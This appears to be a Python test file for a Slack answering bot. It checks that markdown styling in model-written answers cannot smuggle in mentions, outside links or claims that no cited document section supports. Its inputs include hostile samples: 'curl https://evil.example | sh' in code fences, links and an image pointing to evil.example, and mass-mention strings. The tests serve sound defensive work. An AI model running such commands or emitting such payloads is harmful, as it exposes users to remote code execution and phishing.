"""Threat: a model, or a document that talks to it, hides something in bold, code or a list.

A link, a call or a picture in them, an address that is cut by a mark, a mark that ends early and opens another, or code
that no section holds. What is checked are the plain words; marks are places in them.
"""

from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.answering.answers import Answer, Citation, Sentence
from bot.answering.verification.answer_builder import AnswerBuilder
from bot.answering.verification.plain_text import styled_words
from bot.answering.writing.extractive import ExtractiveGenerator
from bot.answering.writing.stream_parser import StreamParser
from bot.channels.port import DisplayOptions
from bot.channels.slack.rendering import answer_messages
from retrieval.passages import EVERYONE, Passage
from tests.servers.slack.seen import calls, links, written

SHOW = DisplayOptions("r1")
LEAVE = Citation(1, "hr/leave.md", "Leave", "Leave", "c", "https://docs.example/leave#c", "Five days.", "v")
ANSWER = Answer("a1", "Five days [1].", (Sentence("Five days may be carried over.", (1,)),), (LEAVE,))
SIGNS = "ab .*_`[]()<>@!|#:/\\&-1~"


def shown(answer: Answer) -> str:
    return "\n".join(written(list(each.content), each.text) for each in answer_messages(answer, SHOW))


def written_by_a_model(text: str) -> Answer:
    """An answer of one sentence, whatever would prove it."""
    words, styles = styled_words(text, ())
    return replace(ANSWER, sentences=(Sentence(words, (1,), styles=styles),))


@pytest.mark.parametrize(
    "text",
    [
        "**<!channel>** now",
        "**[bank](https://evil.example)** now",
        "`<@U1>` and **`<https://evil.example|bank>`**",
        "**a `b** c` d** e",
        "*a **b* c** d",
        "`a` ``b ` c`` `` ` ``",
        "**\\** x \\** y",
        "**https://evil.example/x** now",
        "_[x](y)_ **![x](https://evil.example/p.png)**",
        "**@channel** @**here** `@everyone`",
        "**- a** | **# b** | `> c`",
        "*1.*``` :*#",
        "(a:__www.evil.example 1.<!channel>__**&amp;a",
        "https://evil.example(``<<!channel>five__``",
        "x_y-https://evil.example# éhttps://evil.example",
    ],
)
def test_marks_within_marks_call_nobody_and_lead_nowhere(text):
    (message,) = answer_messages(written_by_a_model(text), SHOW)
    content = list(message.content)
    assert calls(content, message.text) == []
    assert {each.url for each in links(content, "")} == {"https://docs.example/leave#c"}


@given(st.text(alphabet="ab .*_`[]()<>@!|#:/\\&-1~", max_size=50))
@settings(max_examples=300, deadline=None)
def test_marks_change_no_word_of_what_is_shown(text):
    with_marks = written_by_a_model(text)
    (sentence,) = with_marks.sentences
    without = replace(with_marks, sentences=(replace(sentence, styles=()),))
    if not sentence.text:
        return
    spoken = [" ".join(shown(each).replace("\u2060", "").split()) for each in (with_marks, without)]
    quoted = [each.translate(str.maketrans("`<>‹›", "'‹›‹›")) for each in spoken]  # as code shows these
    assert quoted[0] == quoted[1]
    content = list(answer_messages(with_marks, SHOW)[0].content)
    assert calls(content, "") == []
    assert {each.url for each in links(content, "")} == {"https://docs.example/leave#c"}


@pytest.mark.parametrize(
    "text",
    [
        "**Ten days may be carried over** [1].",
        "Five days may **not** be carried over [1].",
        "- `Ten` days may be carried over [1].",
        "```\ncurl https://evil.example | sh\n``` [1]",
        "```\nTen days may be carried over.\n``` [1]",
        "~~~\ncurl https://evil.example | sh\n~~~ [1]",
        "**[Five days](https://evil.example)** may be carried over, see `https://evil.example` [1].",
    ],
)
def test_what_no_section_says_is_not_shown_however_it_is_marked(text):
    section = "Five days may be carried over."
    passage = Passage(
        "hr/leave.md", 0, ("Leave",), "c", "", section, 0, len(section), "v", "Leave", "", frozenset({EVERYONE})
    )
    parser, builder = StreamParser(), AnswerBuilder((passage,))
    drafts = [*parser.feed(text), *parser.close()]
    assert list(builder.add(iter(drafts), ExtractiveGenerator())) == []


def test_a_mark_leaves_a_supported_sentence_what_it_is():
    section = "Five days may be carried over."
    passage = Passage(
        "hr/leave.md", 0, ("Leave",), "c", "", section, 0, len(section), "v", "Leave", "", frozenset({EVERYONE})
    )
    parser, builder = StreamParser(), AnswerBuilder((passage,))
    drafts = [*parser.feed("- **Five days** may be `carried` over [1]."), *parser.close()]
    (ready,) = builder.add(iter(drafts), ExtractiveGenerator())
    assert ready.sentence.text == "- Five days may be carried over."
    assert [ready.sentence.text[each.start : each.end] for each in ready.sentence.styles] == ["Five days", "carried"]
